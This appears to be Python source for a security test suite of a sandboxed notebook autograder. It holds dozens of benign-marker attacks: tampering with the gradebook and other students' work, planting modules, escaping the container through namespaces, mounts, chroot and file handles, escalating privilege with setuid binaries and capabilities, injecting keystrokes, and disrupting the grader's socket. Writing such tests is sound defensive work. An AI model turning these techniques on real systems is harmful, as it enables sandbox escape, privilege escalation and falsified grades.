"""Attacks that write to marks, to other students' work, to the grader or to the machine.

They try to write a file "pwned" into every folder outside /scratch. They rewrite the first byte
of existing files with the same value, so that an attack that succeeds does no harm.
"""

from textwrap import dedent

from .attack import Attack

RELU = "def relu_forward(x):\n    return np.maximum(np.asarray(x, dtype=float), 0), None"

TRY = dedent("""\
    import ctypes, glob, os, stat, sys
    from pathlib import Path

    WORD = b"backprop-attack\\n"
    LIBC = ctypes.CDLL(None, use_errno=True)
    ROOTS = ["/tmp", "/work", "/root", "/home", "/srv", "/mnt", "/var/tmp", "/opt", "/", ".."]

    def attempt(action, *arguments):
        try:
            print(action.__name__, arguments, action(*arguments))
        except Exception as error:
            print(action.__name__, arguments, error)

    def write(path, data=WORD):
        with open(path, "ab") as file:
            return file.write(data)

    def rewrite(path):
        with open(path, "r+b") as file:
            first = file.read(1)
            file.seek(0)
            return file.write(first)

    def tamper_with(path):
        attempt(rewrite, path)
        attempt(write, f"{path}.pwned")

    def system(name, *arguments):
        if getattr(LIBC, name)(*arguments) < 0:
            error = ctypes.get_errno()
            raise OSError(error, os.strerror(error))
        return "done"

    def find(*patterns):
        for root in ROOTS:
            for pattern in patterns:
                for depth in ("", "*/", "*/*/", "*/*/*/"):
                    yield from glob.glob(f"{root}/{depth}{pattern}")
    """)

UNSHARED = dedent("""\
    def unshared(action):
        user, group = os.getuid(), os.getgid()
        if os.fork() == 0:
            try:
                attempt(system, "unshare", 0x10000000 | 0x00020000)  # user and mount namespace
                attempt(write, "/proc/self/setgroups", b"deny")
                attempt(write, "/proc/self/uid_map", b"0 %d 1" % user)
                attempt(write, "/proc/self/gid_map", b"0 %d 1" % group)
                action()
            finally:
                Path("/scratch/said").write_text(sys.stdout.getvalue())
                os._exit(0)
        os.wait()
        print(Path("/scratch/said").read_text())
    """)

CARRIED_ON = {
    "linear_forward": "def linear_forward(x, W, b):\n    return x * 0, None",
    "mlp_forward": "def mlp_forward(params, x):\n    tamper()\n    return x, None",
    "relu_forward": RELU,
}


def in_a_cell(name: str, code: str, helpers: str = TRY) -> Attack:
    """Return an attack by a cell in a notebook with one right answer, which is worth 2 points."""
    answers = {"relu_forward": RELU}
    return Attack(name, cells=(helpers + dedent(code),), answers=answers, deserves=2)


def where_the_grader_is_asked(name: str, code: str) -> Attack:
    """Return an attack by an answer that runs while the job has a socket to the grader.

    The earlier answer linear_forward is wrong, so the grader computes it for the job over this
    socket. Later jobs use the same socket.
    """
    helpers = TRY + "import socket, struct\n" + dedent(code)
    return Attack(name, cells=(helpers,), answers=CARRIED_ON, deserves=2)


MARKS = [
    in_a_cell(
        "the_gradebook_is_not_written",
        "for path in [*find('gradebook.db', '*.db'), '../gradebook.db']:\n    tamper_with(path)",
    ),
    in_a_cell(
        "the_work_of_others_is_not_written",
        "for path in [*find('submitted/*/*/*.ipynb'), '../../ada/02-forward/02-forward.ipynb']:\n"
        "    tamper_with(path)",
    ),
    in_a_cell(
        "no_marked_notebook_is_put_in_place",
        """\
        for folder in [*find("submitted"), "/scratch/.."]:
            place = Path(folder).parent / "autograded/mallory/02-forward"
            attempt(os.makedirs, place)
            attempt(write, place / "pwned.ipynb")
        """,
    ),
    in_a_cell(
        "the_released_notebook_is_not_written",
        "for path in find('02-forward.ipynb', '02-forward.md'):\n    tamper_with(path)",
    ),
    in_a_cell(
        "no_file_appears_outside_the_scratch_folder",
        """\
        for root in [*ROOTS, "/dev", "/dev/shm", "/dev/pts", "/etc", "/run", "/var", "/usr/local",
                     "/proc", "/grader", "/grader/autograder", "/lib", "/bin", sys.prefix,
                     sys.base_prefix]:
            attempt(write, os.path.join(root, "pwned"))
            attempt(os.mkdir, os.path.join(root, "pwned.d"))
        """,
    ),
    in_a_cell(
        "nothing_in_shared_memory_waits_for_the_next_job",
        """\
        from multiprocessing import shared_memory
        attempt(write, "/dev/shm/pwned")
        attempt(lambda: shared_memory.SharedMemory("backprop-attack", True, 100).buf.nbytes)
        """,
    ),
    in_a_cell(
        "no_module_is_planted_where_the_next_job_imports",
        # Python looks for modules in the folder of the program first.
        """\
        for name in ("timeit", "fractions", "statistics", "scipy", "pandas", "pwned"):
            for folder in ("/grader", "/grader/autograder"):
                try:
                    with open(f"{folder}/{name}.py", "x") as file:
                        file.write("raise SystemExit('backprop-attack')")
                except OSError as error:
                    print(error)
        """,
    ),
    in_a_cell(
        "the_next_job_finds_no_answers_of_this_one",
        """\
        for folder in ("/", "/dev", "/dev/shm", "/grader", "/etc", "/run", "/work", "/root",
                       "/tmp"):
            attempt(lambda: Path(folder, "pwned.answers").read_text())
            attempt(lambda: Path(folder, "pwned.answers").write_text(
                "def linear_forward(x, W, b):"))
        """,
    ),
    in_a_cell(
        "nothing_in_scratch_waits_for_the_next_job",
        """\
        for name in ("numpy.py", "autograder.py", "sitecustomize.py", "matplotlib/matplotlibrc",
                     "ipython/profile_default/startup/00.py", ".config/x", "usercustomize.py"):
            path = Path("/scratch") / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text("raise SystemExit('backprop-attack')")
        """,
    ),
]

GRADER = [
    in_a_cell(
        "the_program_of_the_grader_is_not_written",
        "for path in glob.glob('/grader/**', recursive=True):\n    tamper_with(path)",
    ),
    in_a_cell(
        "the_packages_of_python_are_not_written",
        """\
        for folder in {os.path.dirname(os.path.dirname(np.__file__)), *sys.path, sys.prefix}:
            attempt(write, os.path.join(folder, "pwned"))
        for file in (np.__file__, os.__file__, sys.executable, "/bin/sh"):
            tamper_with(file)
        """,
    ),
    in_a_cell(
        "compiled_files_of_the_packages_are_not_replaced",
        """\
        for folder in (os.path.dirname(np.__file__), os.path.dirname(os.__file__)):
            for path in glob.glob(folder + "/__pycache__/*.pyc"):
                tamper_with(path)
                break
        """,
    ),
    in_a_cell(
        "names_of_the_grader_are_not_moved",
        """\
        for path in ("/grader", "/grader/warm.py", "/grader/autograder", "/scratch", "/tmp",
                     "/dev/null"):
            attempt(os.rename, path, path + ".old")
            attempt(os.unlink, path)
            attempt(os.symlink, "/scratch", path)
        """,
    ),
    in_a_cell(
        "a_hard_link_gives_no_right_to_write",
        """\
        for number, path in enumerate(["/grader/warm.py", np.__file__, sys.executable, "/bin/su"]):
            attempt(os.link, path, f"/scratch/link{number}")
            attempt(rewrite, f"/scratch/link{number}")
        """,
    ),
    in_a_cell(
        "a_symbolic_link_is_not_followed_by_the_grader",
        """\
        os.chdir("/scratch")
        for number, path in enumerate(["/grader/warm.py", "/tmp/pwned", "/etc/passwd"]):
            attempt(os.symlink, path, f"link{number}")
            attempt(rewrite if os.path.exists(path) else write, f"link{number}")
        attempt(os.rename, "/scratch", "/scratch.old")
        """,
    ),
    in_a_cell(
        "a_name_that_changes_while_it_is_opened_leads_nowhere",
        """\
        import threading
        os.chdir("/scratch")
        turning = True

        Path("mine").write_bytes(WORD)

        def turn():
            while turning:
                for target in ("/scratch/mine", "/grader/warm.py"):
                    os.symlink(target, "new")
                    os.replace("new", "name")

        other = threading.Thread(target=turn)
        other.start()
        for number in range(2000):
            try:
                rewrite("name")
            except OSError:
                pass
        turning = False
        other.join()
        """,
    ),
    in_a_cell(
        "a_scratch_without_rights_costs_only_its_owner",
        """\
        attempt(os.chmod, "/scratch", 0)
        attempt(os.rmdir, "/scratch")
        attempt(os.chmod, "/dev", 0)
        """,
    ),
]

PRIVILEGE = [
    in_a_cell(
        "nobody_becomes_root",
        """\
        attempt(os.setresuid, 0, 0, 0)
        attempt(os.setresgid, 0, 0, 0)
        attempt(os.setgroups, [0])
        attempt(system, "setfsuid", 0)
        attempt(write, "/tmp/pwned")
        attempt(write, "/grader/pwned")
        """,
    ),
    in_a_cell(
        "no_capability_comes_back",
        """\
        head = (ctypes.c_uint32 * 2)(0x20080522, 0)
        attempt(system, "capset", head, (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6))
        for capability in range(41):
            LIBC.prctl(47, 2, capability, 0, 0)  # PR_CAP_AMBIENT_RAISE
        attempt(system, "mount", b"none", b"/grader", b"tmpfs", 0, None)
        attempt(write, "/grader/pwned")
        """,
    ),
    in_a_cell(
        "a_program_with_the_mark_of_root_gives_no_privilege",
        """\
        import subprocess
        for program in ("su", "mount", "umount", "passwd", "newgrp", "sudo", "pkexec", "ping"):
            command = [program, "-c", "echo backprop-attack > /tmp/pwned"]
            attempt(lambda: subprocess.run(command, timeout=0.1, stdin=subprocess.DEVNULL))
        Path("/scratch/mine").write_bytes(Path("/bin/sh").read_bytes())
        attempt(os.chmod, "/scratch/mine", 0o6755)
        script = "id; echo backprop-attack > /tmp/pwned"
        attempt(subprocess.run, ["/scratch/mine", "-p", "-c", script])
        """,
    ),
    in_a_cell(
        "a_folder_is_not_mounted_writable_again",
        """\
        for folder in ("/", "/tmp", "/grader/warm.py", "/usr", sys.prefix, sys.base_prefix):
            attempt(system, "mount", None, folder.encode(), None, 32 | 4096, None)  # remount, bind
            attempt(write, os.path.join(folder, "pwned"))
        """,
    ),
    in_a_cell(
        "a_folder_is_not_mounted_writable_in_a_namespace_of_its_own",
        """\
        def remount():
            for folder in ("/", "/tmp", "/usr", sys.prefix, sys.base_prefix):
                attempt(system, "mount", None, folder.encode(), None, 32 | 4096, None)
                attempt(write, os.path.join(folder, "pwned"))
            attempt(system, "mount", None, b"/grader/warm.py", None, 32 | 4096, None)
            attempt(rewrite, "/grader/warm.py")
        unshared(remount)
        """,
        TRY + UNSHARED,
    ),
    in_a_cell(
        "the_covers_are_not_lifted",
        """\
        def lift():
            for flags in (0, 2, 8):
                for folder in ("/proc", "/scratch", "/tmp", "/dev", "/dev/shm"):
                    attempt(system, "umount2", folder.encode(), flags)
            for name in os.listdir("/proc"):
                attempt(write, f"/proc/{name}/comm")
        lift()
        unshared(lift)
        """,
        TRY + UNSHARED,
    ),
    in_a_cell(
        "no_process_table_is_mounted",
        """\
        def look():
            os.makedirs("/scratch/proc", exist_ok=True)
            attempt(system, "unshare", 0x20000000)
            if os.fork() == 0:
                attempt(system, "mount", b"proc", b"/scratch/proc", b"proc", 0, None)
                for name in os.listdir("/scratch/proc"):
                    attempt(write, f"/scratch/proc/{name}/comm")
                os._exit(0)
            os.wait()
        unshared(look)
        """,
        TRY + UNSHARED,
    ),
    in_a_cell(
        "the_old_root_is_not_found_behind_the_new_one",
        """\
        def leave():
            os.makedirs("/scratch/cell", exist_ok=True)
            up = os.open("/", os.O_RDONLY)
            attempt(os.chroot, "/scratch/cell")
            attempt(os.fchdir, up)
            for step in range(64):
                os.chdir("..")
            attempt(os.chroot, ".")
            for root in ("/", "/oldroot", "/newroot", "/tmp", "/work/main"):
                attempt(write, os.path.join(root, "pwned"))
        unshared(leave)
        """,
        TRY + UNSHARED,
    ),
    in_a_cell(
        "no_other_file_system_is_laid_over_a_readable_one",
        """\
        def overlay():
            for name in ("upper", "work"):
                os.makedirs(f"/scratch/{name}", exist_ok=True)
            options = b"lowerdir=/grader,upperdir=/scratch/upper,workdir=/scratch/work"
            attempt(system, "mount", b"none", b"/grader", b"overlay", 0, options)
            attempt(write, "/grader/pwned")
        unshared(overlay)
        """,
        TRY + UNSHARED,
    ),
    in_a_cell(
        "no_group_of_processes_tells_the_kernel_what_to_run",
        # A process that may make a control group may also choose a program that the kernel runs as
        # root when the group becomes empty.
        """\
        def agent():
            os.makedirs("/scratch/group", exist_ok=True)
            for kind, options in ((b"cgroup", b"memory"), (b"cgroup", b"rdma"), (b"cgroup2", None)):
                attempt(system, "mount", b"none", b"/scratch/group", kind, 0, options)
            attempt(os.mkdir, "/scratch/group/pwned")
        unshared(agent)
        """,
        TRY + UNSHARED,
    ),
    in_a_cell(
        "no_device_is_made",
        # The device is the log of the kernel, because writing to it can be seen and does no harm.
        """\
        attempt(os.mknod, "/scratch/kmsg", 0o666 | stat.S_IFCHR, os.makedev(1, 11))
        attempt(write, "/scratch/kmsg")
        """,
    ),
    in_a_cell(
        "no_device_of_the_machine_is_written",
        # All devices are opened for writing, but the attack writes only to the log of the kernel.
        "for path in ('/dev/mem', '/dev/fuse', '/dev/kvm', '/dev/console', '/dev/vda', "
        "'/dev/sda'):\n"
        "    attempt(os.open, path, os.O_WRONLY)\n"
        "attempt(write, '/dev/kmsg')",
    ),
    in_a_cell(
        "no_file_is_opened_by_its_handle",
        """\
        class Handle(ctypes.Structure):
            _fields_ = [("size", ctypes.c_uint), ("type", ctypes.c_int),
                        ("data", ctypes.c_ubyte * 128)]

        for root in ("/usr", "/grader/warm.py", sys.prefix):
            handle, mount = Handle(128), ctypes.c_int()
            place = (ctypes.byref(handle), ctypes.byref(mount), 0)
            attempt(system, "name_to_handle_at", -100, root.encode(), *place)
            # On the disk, the root folder has the inode number 2, independent of all mounts.
            handle.size, handle.type = 8, 1
            handle.data[:8] = [2, 0, 0, 0, 0, 0, 0, 0]
            inside = os.open(root, os.O_RDONLY)
            outside = LIBC.open_by_handle_at(inside, ctypes.byref(handle), os.O_RDONLY)
            print(outside, os.strerror(ctypes.get_errno()))
            if outside >= 0:
                made = os.open("tmp/pwned", os.O_WRONLY | os.O_CREAT, 0o666, dir_fd=outside)
                os.write(made, WORD)
        """,
    ),
    in_a_cell(
        "no_keystroke_reaches_the_terminal",
        """\
        import fcntl
        for number in range(64):
            for letter in b"echo backprop-attack > /tmp/pwned\\n":
                try:
                    fcntl.ioctl(number, 0x5412, bytes([letter]))  # TIOCSTI
                except OSError:
                    break
        attempt(os.open, "/dev/tty", os.O_RDWR)
        """,
    ),
    in_a_cell(
        "no_program_is_loaded_into_the_kernel",
        """\
        for number, arguments in ((321, (0, bytes(120), 120)), (298, (bytes(128), 0, -1, -1, 0)),
                                  (323, (0,)), (175, (bytes(64), 64, b""))):
            print(number, LIBC.syscall(number, *arguments), os.strerror(ctypes.get_errno()))
        """,
    ),
]

KEPT = [
    in_a_cell(
        "no_key_of_the_kernel_is_left_for_the_next_job",
        """\
        import socket
        before = ctypes.create_string_buffer(100)
        for ring in (-3, -4, -5):  # the rings of the session, the user and the user's session
            found = LIBC.syscall(250, 10, ring, b"user", b"backprop-attack", 0)  # KEYCTL_SEARCH
            if found > 0 and LIBC.syscall(250, 11, found, before, 100, 0) > 0:
                print("the job before says", before.value)
            key = LIBC.syscall(248, b"user", b"backprop-attack", WORD, len(WORD), ring)  # add_key
            LIBC.syscall(250, 5, key, ctypes.c_uint(0x3F3F3F3F), 0, 0)  # KEYCTL_SETPERM
            print(ring, key, os.strerror(ctypes.get_errno()))
        """,
    ),
    in_a_cell(
        "no_inherited_descriptor_leads_to_a_file",
        """\
        for number in range(3, 256):
            for name in (f"/proc/self/fd/{number}", f"/dev/fd/{number}"):
                attempt(write, name)
            try:
                os.ftruncate(number, os.fstat(number).st_size)
            except OSError:
                pass
            try:
                os.open("../pwned", os.O_CREAT | os.O_WRONLY, dir_fd=number)
            except OSError:
                pass
        """,
    ),
    in_a_cell(
        "pipes_that_others_use_are_not_made_impatient",
        """\
        import fcntl
        for number in range(3, 64):
            try:
                fcntl.fcntl(number, fcntl.F_SETFL, os.O_NONBLOCK | os.O_ASYNC)
                fcntl.fcntl(number, fcntl.F_SETPIPE_SZ, 4096)
                fcntl.fcntl(number, fcntl.F_SETOWN, 1)
            except OSError:
                pass
        """,
    ),
    where_the_grader_is_asked(
        "the_line_to_the_grader_does_not_become_impatient",
        """\
        def tamper():
            for number in range(3, 64):
                try:
                    channel = socket.socket(fileno=os.dup(number))
                except OSError:
                    continue
                channel.setblocking(False)
        """,
    ),
    where_the_grader_is_asked(
        "the_line_to_the_grader_is_not_given_a_time_limit",
        """\
        def tamper():
            for number in range(3, 64):
                try:
                    channel = socket.socket(fileno=os.dup(number))
                    soon = struct.pack("ll", 0, 1)
                    channel.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, soon)
                    channel.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, soon)
                    channel.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1)
                except OSError:
                    continue
        """,
    ),
    where_the_grader_is_asked(
        "the_line_to_the_grader_is_not_shut",
        """\
        def tamper():
            for number in range(3, 64):
                try:
                    socket.socket(fileno=os.dup(number)).shutdown(socket.SHUT_RD)
                except OSError:
                    continue
        """,
    ),
    where_the_grader_is_asked(
        "the_line_to_the_grader_is_not_filtered",
        # A filter on a socket makes the kernel drop the grader's replies to later jobs.
        """\
        def tamper():
            drop = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0))
            program = struct.pack("HxxxxxxQ", 1, ctypes.addressof(drop))
            for number in range(3, 64):
                try:
                    channel = socket.socket(fileno=os.dup(number))
                    channel.setsockopt(socket.SOL_SOCKET, 26, program)  # SO_ATTACH_FILTER
                    channel.setsockopt(socket.SOL_SOCKET, 44, 1)  # SO_LOCK_FILTER
                except OSError:
                    continue
        """,
    ),
    where_the_grader_is_asked(
        "a_descriptor_sent_to_the_grader_is_not_kept",
        """\
        def tamper():
            for number in range(3, 64):
                try:
                    channel = socket.socket(fileno=os.dup(number))
                    channel.setblocking(True)
                    for more in range(100):
                        hoard = [os.open("/dev/null", os.O_RDONLY) for one in range(20)]
                        socket.send_fds(channel, [WORD], hoard, socket.MSG_DONTWAIT)
                        for one in hoard:
                            os.close(one)
                except OSError:
                    continue
        """,
    ),
]

ATTACKS = [*MARKS, *GRADER, *PRIVILEGE, *KEPT]
